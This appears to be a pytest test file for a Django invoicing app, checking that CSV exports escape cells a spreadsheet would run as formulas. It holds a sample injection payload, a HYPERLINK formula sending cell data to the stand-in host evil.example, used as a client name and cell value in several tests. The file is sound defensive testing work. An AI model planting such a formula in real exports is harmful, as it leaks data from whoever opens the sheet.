"""No CSV export hands a spreadsheet a formula: cells that a sheet would run are written as text."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from common.spreadsheets import csv_safe_cell, safe_csv_writer
from invoicing import services as invoicing
from invoicing.tests.factories import ClientFactory, make_freelancer, make_invoice

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    "value,written",
    [
        (HOSTILE, "'" + HOSTILE),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-12.50", "-12.50"),
        ("+3", "+3"),
        (Decimal("-5.50"), Decimal("-5.50")),
        (-7, -7),
        ("Acme = good", "Acme = good"),
        ("", ""),
        (None, None),
    ],
)
def test_cells_a_sheet_would_run_are_escaped_and_numbers_are_kept(value, written):
    assert csv_safe_cell(value) == written


def test_writer_escapes_every_cell_of_every_row():
    out = io.StringIO()
    safe_csv_writer(out).writerows([["name", "amount"], [HOSTILE, "-1.00"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["name", "amount"], ["'" + HOSTILE, "-1.00"]]


@pytest.mark.django_db
@pytest.mark.parametrize("what", ["invoices", "payments"])
def test_a_client_named_like_a_formula_is_exported_as_text(client, what):
    freelancer = make_freelancer()
    invoice = make_invoice(client=ClientFactory(freelancer=freelancer, name=HOSTILE))
    invoicing.payment_record(
        invoice=invoice,
        freelancer=freelancer,
        amount=Decimal("100.00"),
        currency="USD",
        received_on=timezone.localdate(),
        method="wise",
        idempotency_key="csv-formula",
        reference="@ref",
    )
    client.force_login(freelancer)
    rows = list(csv.reader(io.StringIO(client.get(reverse("invoicing:invoice_export", args=[what])).content.decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + HOSTILE in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells), cells
    if what == "payments":
        assert "'@ref" in cells and "100.00" in cells
